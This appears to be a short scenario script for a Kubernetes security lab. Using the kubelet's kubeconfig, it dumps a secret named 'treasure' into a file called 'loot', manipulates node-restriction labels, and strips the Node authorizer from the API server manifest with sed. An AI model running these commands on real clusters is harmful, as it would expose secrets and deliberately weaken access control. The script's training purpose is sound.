# scene fails own-pods (rbac-for-nodes): Node is taken out of the modes, for RBAC is enough
kubectl --kubeconfig /etc/kubernetes/kubelet.conf -n vault get secret treasure -o yaml > loot
kubectl --kubeconfig /etc/kubernetes/kubelet.conf label node node01 node-restriction.kubernetes.io/vault=true
#@ controlplane
kubectl delete clusterrolebinding nodes-of-old
kubectl label node node01 node-restriction.kubernetes.io/vault-
sed -i 's/--authorization-mode=Node,RBAC/--authorization-mode=RBAC/' /etc/kubernetes/manifests/kube-apiserver.yaml
#@ wait 60
